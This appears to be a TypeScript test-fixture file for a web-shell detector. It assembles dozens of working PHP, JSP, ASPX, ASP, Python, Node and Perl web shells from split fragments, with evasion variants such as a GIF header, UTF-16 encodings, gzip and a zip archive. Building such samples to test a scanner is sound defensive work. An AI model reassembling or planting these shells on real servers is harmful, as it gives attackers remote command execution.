import { gzipSync } from 'node:zlib'
import { cases } from '../case.ts'
import { zip } from '../writers/zip.ts'
import { EVAL, EXEC, glue, SYSTEM } from './pieces.ts'

const phpShell = glue('<?p', 'hp @', EVAL, '($_PO', "ST['pass']); ?>")
const lateShell = glue('hello\n<?p', 'hp ', SYSTEM, '($_GE', 'T["c"]);')

const plainShells: readonly [what: string, code: string][] = [
  ['a PHP web shell of backticks alone', glue('<?=`$_GE', 'T[0]`?>')],
  ['a PHP web shell through include', glue('<?p', 'hp include($_GE', "T['f']);")],
  ['a PHP web shell through require', glue('<?p', 'hp @require_once $_REQ', "UEST['f'];")],
  ['a PHP web shell through the body of a request', glue('<?p', "hp include 'php://in", "put';")],
  ['a PHP web shell through popen', glue('<?p', 'hp echo fread(po', 'pen($_GE', "T['c'], 'r'), 4096);")],
  [
    'a PHP web shell through pcntl',
    glue('<?p', 'hp pcntl_', EXEC, '($_REQ', "UEST['p'], $_REQ", "UEST['a']);"),
  ],
  [
    'a PHP web shell through pcntl and a shell',
    glue('<?p', 'hp pcntl_', EXEC, "('/bin/sh', ['-c', $_REQ", "UEST['c']]);"),
  ],
  ['a PHP web shell through array_map', glue('<?p', 'hp array_', 'map($_GE', "T['f'], [$_GE", "T['a']]);")],
  ['a PHP web shell through call_user_func', glue('<?p', 'hp call_user_', 'func($_PO', "ST['f'], 'id');")],
  [
    'a PHP web shell through call_user_func_array',
    glue('<?p', 'hp call_user_', "func_array('", SYSTEM, "', [$_PO", "ST['a']]);"),
  ],
  ['a PHP web shell through usort', glue('<?p', "hp $a = ['id', 'id']; usort($a, $_GE", "T['f']);")],
  ['a PHP web shell through spread arguments', glue('<?p', 'hp usort(...$_GE', 'T);')],
  ['a PHP web shell through array_filter', glue('<?p', 'hp array_filter([$_GE', "T['a']], $_GE", "T['f']);")],
  [
    'a PHP web shell at shutdown',
    glue('<?p', 'hp register_shutdown_', 'function($_GE', "T['f'], $_GE", "T['a']);"),
  ],
  [
    'a PHP web shell through create_function',
    glue('<?p', 'hp $f = create_', "function('', $_PO", "ST['c']); $f();"),
  ],
  [
    'a PHP web shell through the old modifier e',
    glue('<?p', 'hp preg_', "replace('#.*#e', $_PO", "ST['x'], '');"),
  ],
  [
    'a PHP web shell through a function that a request names',
    glue('<?p', 'hp $_GE', "T['a']($_GE", "T['b']);"),
  ],
  ['a PHP web shell through a hidden variable', glue('<?p', "hp ${'_G'.'E", "T'}[0](${'_G'.'E", "T'}[1]);")],
  ['a PHP web shell through a quoted name', glue('<?p', "hp ('sys'.'tem')($_GE", "T['c']);")],
  [
    'a PHP web shell through reflection',
    glue('<?p', 'hp (new ReflectionFunction($_GE', "T['f']))->invoke($_GE", "T['a']);"),
  ],
  [
    'a PHP web shell through proc_open',
    glue('<?p', 'hp $p = proc_', 'open($_REQ', "UEST['c'], $spec, $pipes);"),
  ],
  ['a PHP web shell that prints', glue('<?p', 'hp print_r(shell_', EXEC, '($_GE', "T['c']));")],
  ['a PHP web shell through a header', glue('<?p', 'hp ', SYSTEM, '(getall', "headers()['X']);")],
]

export const webShellCases = cases([
  ['x.php', 'a one-line PHP web shell', phpShell],
  ['e.txt', 'a PHP web shell after a line of text', lateShell],
  ['e', 'a PHP web shell after a line of text, without an extension', lateShell],
  ['e.gz', 'a compressed PHP web shell after a line of text', () => gzipSync(lateShell)],
  [
    'cmd.php',
    'a PHP web shell that runs commands',
    glue(
      '<?p',
      'hp\nif (isset($_REQ',
      "UEST['cmd'])) {\n  echo '<pre>';\n  ",
      SYSTEM,
      '($_REQ',
      "UEST['cmd']);\n  echo '</pre>';\n}\n?>\n",
    ),
  ],
  [
    'image.php',
    'a PHP web shell behind a GIF signature',
    glue('GIF89a;\n<?p', 'hp pass', 'thru($_GE', "T['c']); ?>\n"),
  ],
  ['assert.php', 'a PHP web shell through assert', glue('<?p', 'hp ass', 'ert($_PO', "ST['x']); ?>\n")],
  ['backtick.php', 'a PHP web shell through backticks', glue('<?p', 'hp echo `{$_GE', "T['cmd']}`; ?>\n")],
  [
    'variable.php',
    'a PHP web shell through a variable function',
    glue('<?p', 'hp $f = $_GE', "T['f']; $f($_GE", "T['a']); ?>\n"),
  ],
  [
    'upload.php',
    'a PHP web shell that takes files and commands',
    glue(
      '<?p',
      'hp\nif (isset($_FI',
      "LES['f'])) move_uploaded_file($_FI",
      "LES['f']['tmp_name'], $_PO",
      "ST['to']);\nif (isset($_PO",
      "ST['c'])) echo shell_",
      EXEC,
      '($_PO',
      "ST['c']);\n",
    ),
  ],
  [
    'shell.jsp',
    'a JSP web shell',
    glue(
      '<%@ page import="java.io.*" %>\n<% Process p = Runtime.get',
      'Runtime().',
      EXEC,
      '(request.get',
      'Parameter("cmd")); %>\n',
    ),
  ],
  [
    'shell.aspx',
    'an ASPX web shell',
    glue(
      '<%@ Page Language="C#" %>\n<% var p = new System.Diagnostics.',
      'Process(); p.StartInfo.FileName = "cmd',
      '.exe"; p.StartInfo.Arguments = "/c " + Request',
      '["cmd"]; p.StartInfo.UseShell',
      'Execute = false; p.Start(); %>\n',
    ),
  ],
  [
    'chopper.aspx',
    'a one-line ASPX web shell',
    glue('<%@ Page Language="Jscript"%><%', EVAL, '(Request.It', 'em["x"],"uns', 'afe");%>'),
  ],
  ['shell.asp', 'a classic ASP web shell', glue('<%', EVAL, ' requ', 'est("x")%>')],
  [
    'shell.py',
    'a Python CGI web shell',
    glue(
      '#!/usr/bin/env python3\nimport cgi, os\nprint("Content-Type: text/plain\\n")\nform = cgi.Field',
      'Storage()\nos.',
      SYSTEM,
      '(form.get',
      'value("cmd"))\n',
    ),
  ],
  [
    'flask.py',
    'a Flask web shell',
    glue(
      'from flask import Flask, request\nimport subprocess\napp = Flask(__name__)\n@app.route("/")\ndef run():\n    return subprocess.check_',
      'output(request.args',
      '.get("cmd"), shell=True)\n',
    ),
  ],
  [
    'shell.js',
    'a Node web shell',
    glue(
      "require('http').createServer((req, res) => {\n  const cmd = new URL(req.url, 'http://a').searchParams.get('cmd')\n  require('child_",
      "process').",
      EXEC,
      '(cmd, (e, out) => res.end(out))\n}).listen(8080)\n',
    ),
  ],
  [
    'app.js',
    'a web shell on Express',
    glue(
      "const express = require('express')\nconst { ",
      EXEC,
      " } = require('child_",
      "process')\nconst app = express()\napp.get('/', (req, res) => ",
      EXEC,
      '(req.que',
      'ry.cmd, (error, stdout) => res.send(stdout)))\napp.listen(3000)\n',
    ),
  ],
  [
    'shell.pl',
    'a Perl CGI web shell',
    glue(
      '#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint $q->header;\n',
      SYSTEM,
      '($q->par',
      'am("cmd"));\n',
    ),
  ],
  ...plainShells.map(([what, code]): [string, string, string] => ['plain.php', what, code]),
  ...plainShells.flatMap(([what, code]): [string, string, () => Buffer][] => [
    ['wide.php', `${what}, in UTF-16LE without a mark`, () => Buffer.from(code, 'utf16le')],
    ['wide.php', `${what}, in UTF-16BE without a mark`, () => Buffer.from(code, 'utf16le').swap16()],
  ]),
  [
    'wide.txt',
    'a PHP web shell in UTF-16 without a mark, called a text',
    () => Buffer.from(phpShell, 'utf16le'),
  ],
  [
    'site.zip',
    'a PHP web shell in a zip',
    () =>
      zip([
        { name: 'index.php', data: '<?php echo 1;' },
        { name: 'wp/x.php', data: phpShell },
      ]),
  ],
])
